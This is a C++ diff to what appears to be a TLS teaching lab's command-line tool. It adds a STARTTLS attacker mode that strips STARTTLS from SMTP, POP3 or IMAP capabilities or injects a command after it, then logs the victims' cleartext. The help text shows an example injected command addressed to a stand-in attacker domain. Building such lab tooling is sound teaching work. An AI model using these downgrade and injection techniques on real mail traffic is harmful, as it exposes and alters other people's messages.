@@ -12,7 +12,10 @@
 #include "cli/Commands.hpp"
 #include "cli/RunPrinter.hpp"
 #include "cli/StartError.hpp"
+#include "cli/LabArgs.hpp"
+#include "cli/TlsArgs.hpp"
 #include "tlslab/endpoints/MitmProxy.hpp"
+#include "tlslab/endpoints/StarttlsAttacker.hpp"
 #include "tlslab/util/Paths.hpp"
 
 namespace tlslab::cli {
@@ -27,11 +30,70 @@ struct MitmArgs {
   int connections = 0;
   double seconds = 0;
   bool fullLog = false;
+  // The STARTTLS attacker instead (lab 13): a plain TCP proxy that strips or injects.
+  std::string starttls;
+  bool strip = false;
+  std::string inject;
 };
 
 std::atomic<bool> stopRequested{false};
 
+// Waits for Ctrl-C, the connection count or the time limit.
+template <typename CountFn>
+void waitForVictims(const MitmArgs& args, CountFn finished) {
+  std::signal(SIGINT, [](int) { stopRequested = true; });
+  std::signal(SIGTERM, [](int) { stopRequested = true; });
+  auto started = std::chrono::steady_clock::now();
+  while (!stopRequested) {
+    if (args.connections > 0 && finished() >= static_cast<std::size_t>(args.connections)) break;
+    if (args.seconds > 0 && std::chrono::steady_clock::now() - started > std::chrono::duration<double>(args.seconds)) break;
+    std::this_thread::sleep_for(std::chrono::milliseconds(20));
+  }
+}
+
+// `tlslab mitm --starttls smtp --strip | --inject CMD`: no certificate, no TLS
+// of its own; it works on the cleartext before the upgrade.
+int runStarttlsAttacker(const MitmArgs& args) {
+  endpoints::StarttlsAttackConfig config;
+  auto protocol = parseStarttls(args.starttls);
+  if (!protocol || *protocol == endpoints::Starttls::None || args.strip == !args.inject.empty()) {
+    std::cerr << "tlslab mitm: --starttls smtp|pop3|imap with exactly one of --strip and --inject CMD\n";
+    return 2;
+  }
+  config.protocol = *protocol;
+  config.mode = args.strip ? endpoints::StarttlsAttackConfig::Mode::Strip : endpoints::StarttlsAttackConfig::Mode::Inject;
+  config.injected = unescapeArg(args.inject);
+  // A command ends with CRLF; add it when the attacker typed none.
+  const std::string& cmd = config.injected;
+  if (!cmd.empty() && (cmd.size() < 2 || cmd.compare(cmd.size() - 2, 2, "\r\n") != 0)) config.injected += "\r\n";
+  config.listenAddress = args.listen;
+  config.listenPort = static_cast<std::uint16_t>(args.listenPort);
+  config.targetAddress = args.target;
+  config.targetPort = static_cast<std::uint16_t>(args.targetPort);
+  auto attacker = endpoints::StarttlsAttacker::start(config);
+  if (!attacker) {
+    printStartError(std::cerr, "mitm", attacker.error());
+    return 1;
+  }
+  std::cout << fmt::format("STARTTLS attacker on {}:{} -> mail server at {}:{}, {}\n", args.listen, (*attacker)->port(),
+                           args.target, args.targetPort,
+                           args.strip ? "stripping STARTTLS" : "injecting " + printable(asBytes(config.injected)));
+  std::cout.flush();
+  waitForVictims(args, [&] { return (*attacker)->sessions().size(); });
+  (*attacker)->stop();
+  std::cout << "\nThe attacker's log:\n";
+  for (const auto& session : (*attacker)->sessions()) {
+    std::cout << fmt::format("  victim {}:\n", session.peer);
+    for (const auto& action : session.actions) std::cout << "    " << action << "\n";
+    std::cout << "    read from the victim in cleartext: \"" << printable(asBytes(session.fromClient), 400) << "\"\n";
+    if (session.upgraded) std::cout << fmt::format("    then relayed {} bytes of TLS it cannot read\n", session.tlsBytesRelayed);
+    if (!session.error.empty()) std::cout << "    " << session.error << "\n";
+  }
+  return 0;
+}
+
 int runMitmProxy(const MitmArgs& args) {
+  if (!args.starttls.empty() || args.strip || !args.inject.empty()) return runStarttlsAttacker(args);
   endpoints::MitmConfig config;
   config.listenAddress = args.listen;
   config.listenPort = static_cast<std::uint16_t>(args.listenPort);
@@ -60,14 +122,7 @@ int runMitmProxy(const MitmArgs& args) {
   std::cout << fmt::format("victims: tlslab connect bank32.com:{} --resolve bank32.com={} [--verify chain-only]\n",
                            (*proxy)->port(), args.listen);
   std::cout.flush();
-  std::signal(SIGINT, [](int) { stopRequested = true; });
-  std::signal(SIGTERM, [](int) { stopRequested = true; });
-  auto started = std::chrono::steady_clock::now();
-  while (!stopRequested) {
-    if (args.connections > 0 && (*proxy)->sessions().size() >= static_cast<std::size_t>(args.connections)) break;
-    if (args.seconds > 0 && std::chrono::steady_clock::now() - started > std::chrono::duration<double>(args.seconds)) break;
-    std::this_thread::sleep_for(std::chrono::milliseconds(20));
-  }
+  waitForVictims(args, [&] { return (*proxy)->sessions().size(); });
   (*proxy)->stop();
   std::cout << "\nThe attacker's log:\n";
   for (const auto& session : (*proxy)->sessions()) {
@@ -95,6 +150,10 @@ void registerMitmCommand(CLI::App& app, Context& ctx) {
   cmd->add_option("--connections", args->connections, "Stop after N victims");
   cmd->add_option("--seconds", args->seconds, "Stop after this many seconds");
   cmd->add_flag("--full-log", args->fullLog, "Every event OpenSSL reported on both legs instead of the ladder");
+  cmd->add_option("--starttls", args->starttls, "Be the STARTTLS attacker instead (lab 13): smtp, pop3 or imap");
+  cmd->add_flag("--strip", args->strip, "--starttls: remove STARTTLS from the server's capabilities");
+  cmd->add_option("--inject", args->inject,
+                  "--starttls: append this command to the client's STARTTLS (\\r\\n understood; e.g. 'RCPT TO:<eve@attacker32.com>')");
   cmd->callback([args, &ctx] { ctx.exitCode = runMitmProxy(*args); });
 }
 
